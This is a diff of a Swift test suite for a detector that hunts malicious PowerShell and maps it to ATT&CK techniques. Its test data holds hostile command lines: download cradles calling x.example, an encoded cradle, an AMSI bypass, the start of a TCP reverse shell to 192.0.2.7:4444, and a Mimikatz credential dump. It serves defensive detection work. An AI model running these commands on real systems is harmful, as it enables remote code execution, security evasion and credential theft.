@@ -7,8 +7,8 @@ import Testing
 @testable import Hunting
 @testable import KQL
 
-/// The question that hunts are judged by: malicious PowerShell on one machine in the past four hours, from its words over
-/// the rows to the findings.
+/// The question that hunts are judged by: malicious PowerShell on one machine in the past four hours, from its words
+/// over the rows to the findings.
 @Suite("Malicious PowerShell on a machine")
 struct PowerShellTests {
     private static let question = "malicious PowerShell on host WS-FIN-07 in the past four hours"
@@ -48,24 +48,29 @@ struct PowerShellTests {
         ] { #expect(draft.query.contains(part), "\(part)") }
     }
 
-    @Test("What rows show becomes findings with techniques of ATT&CK", arguments: [
-        ("powershell.exe -nop -w hidden -enc SQBFAFgAIAAxAA==", ["T1059.001", "T1027.010"]),
-        ("powershell -e SQBFAFgAIAAxAA==", ["T1059.001", "T1027.010"]),
-        ("pwsh -c IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')", ["T1059.001", "T1105"]),
-        ("powershell iwr http://x.example/a.ps1 -useb | iex", ["T1059.001", "T1105"]),
-        (
-            "powershell -WindowStyle Hidden Invoke-WebRequest http://x.example/a.exe -OutFile a.exe",
-            ["T1059.001", "T1105", "T1564.003"]
-        ),
-        (
-            "powershell [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed')",
-            ["T1562.001", "T1059.001"]
-        ),
-        ("powershell [Reflection.Assembly]::Load([Convert]::FromBase64String($a))", ["T1059.001", "T1620"]),
-        ("powershell -ep bypass -w hidden -file C:\\Users\\Public\\a.ps1", ["T1059.001", "T1564.003"]),
-        ("powershell $c=New-Object System.Net.Sockets.TCPClient('192.0.2.7',4444);$s=$c.GetStream()", ["T1059.001", "T1095"]),
-        ("powershell -ep bypass Import-Module .\\a.ps1; Invoke-Mimikatz -DumpCreds", ["T1059.001"]),
-    ] as [(String, [String])])
+    @Test(
+        "What rows show becomes findings with techniques of ATT&CK",
+        arguments: [
+            ("powershell.exe -nop -w hidden -enc SQBFAFgAIAAxAA==", ["T1059.001", "T1027.010"]),
+            ("powershell -e SQBFAFgAIAAxAA==", ["T1059.001", "T1027.010"]),
+            ("pwsh -c IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')", ["T1059.001", "T1105"]),
+            ("powershell iwr http://x.example/a.ps1 -useb | iex", ["T1059.001", "T1105"]),
+            (
+                "powershell -WindowStyle Hidden Invoke-WebRequest http://x.example/a.exe -OutFile a.exe",
+                ["T1059.001", "T1105", "T1564.003"]
+            ),
+            (
+                "powershell [Ref].Assembly.GetType('x.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static')",
+                ["T1562.001", "T1059.001"]
+            ),
+            ("powershell [Reflection.Assembly]::Load([Convert]::FromBase64String($a))", ["T1059.001", "T1620"]),
+            ("powershell -ep bypass -w hidden -file C:\\Users\\Public\\a.ps1", ["T1059.001", "T1564.003"]),
+            (
+                "powershell $c=New-Object System.Net.Sockets.TCPClient('192.0.2.7',4444);$s=$c.GetStream()",
+                ["T1059.001", "T1095"]
+            ),
+            ("powershell -ep bypass Import-Module .\\a.ps1; Invoke-Mimikatz -DumpCreds", ["T1059.001"]),
+        ] as [(String, [String])])
     func shown(line: String, attack: [String]) throws {
         let findings = try Self.hunted([Self.row(line), Self.row("powershell Get-Date")])
         #expect(findings.contains { $0.attack == attack }, "\(findings.map { "\($0.title) \($0.attack)" })")
@@ -74,8 +79,8 @@ struct PowerShellTests {
 
     /// `IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')`, in UTF-16.
     private static let encodedCradle =
-        "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwA"
-        + "bwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAuAGUAeABhAG0AcABsAGUALwBhACcAKQA="
+        "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
+        + "LgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAuAGUAeABhAG0AcABsAGUALwBhACcAKQA="
 
     @Test("What is hidden in an encoded command counts")
     func encoded() throws {
@@ -92,18 +97,20 @@ struct PowerShellTests {
         #expect(try Self.hunted([Self.row(line, file: "certutil.exe", parent: "explorer.exe")]).isEmpty)
     }
 
-    @Test("What administrators do shows nothing", arguments: [
-        "powershell.exe -NoProfile -ExecutionPolicy Bypass -File \"C:\\Program Files\\Agent\\inventory.ps1\"",
-        "powershell.exe -NoProfile -Command \"robocopy C:\\data D:\\backup /e /z\"",
-        "powershell.exe -NoProfile -Command Invoke-WebRequest https://intranet.example/health -UseBasicParsing",
-        "powershell -WindowStyle Hidden -File \\\\dc01\\netlogon\\map-drives.ps1",
-        "powershell Start-Process iexplore.exe https://intranet.example",
-        "powershell [Reflection.Assembly]::LoadWithPartialName('System.Windows.Forms')",
-        "powershell Get-Item C:\\Windows\\System32\\amsi.dll",
-        "powershell -Command Start-BitsTransfer https://download.windowsupdate.com/a.cab C:\\temp\\a.cab",
-        "powershell -ErrorAction SilentlyContinue -Command Get-Service",
-        "powershell Get-MpPreference", "powershell.exe -Command \"[char]65\"",
-    ])
+    @Test(
+        "What administrators do shows nothing",
+        arguments: [
+            "powershell.exe -NoProfile -ExecutionPolicy Bypass -File \"C:\\Program Files\\Agent\\inventory.ps1\"",
+            "powershell.exe -NoProfile -Command \"robocopy C:\\data D:\\backup /e /z\"",
+            "powershell.exe -NoProfile -Command Invoke-WebRequest https://intranet.example/health -UseBasicParsing",
+            "powershell -WindowStyle Hidden -File \\\\dc01\\netlogon\\map-drives.ps1",
+            "powershell Start-Process iexplore.exe https://intranet.example",
+            "powershell [Reflection.Assembly]::LoadWithPartialName('System.Windows.Forms')",
+            "powershell Get-Item C:\\Windows\\System32\\amsi.dll",
+            "powershell -Command Start-BitsTransfer https://download.windowsupdate.com/a.cab C:\\temp\\a.cab",
+            "powershell -ErrorAction SilentlyContinue -Command Get-Service",
+            "powershell Get-MpPreference", "powershell.exe -Command \"[char]65\"",
+        ])
     func silent(line: String) throws {
         #expect(try Self.hunted([Self.row(line)]).isEmpty)
     }
@@ -118,7 +125,9 @@ struct PowerShellTests {
     @Test("The finding keeps its evidence: table, place, time, id, digest and the fields that say most")
     func cited() async throws {
         let rows = HuntRows(
-            columns: [("Stamp", "datetime"), ("DeviceName", "string"), ("ProcessCommandLine", "string"), ("ReportId", "long")],
+            columns: [
+                ("Stamp", "datetime"), ("DeviceName", "string"), ("ProcessCommandLine", "string"), ("ReportId", "long"),
+            ],
             rows: [
                 ["2025-11-12T01:00:00Z", "pc-01", .string("powershell -enc SQBFAFgAIAAxAA==\u{1B}[2J"), 77],
                 ["2025-11-12T02:00:00Z", "pc-01", "powershell -enc SQBFAFgAIAAyAA==", 78],
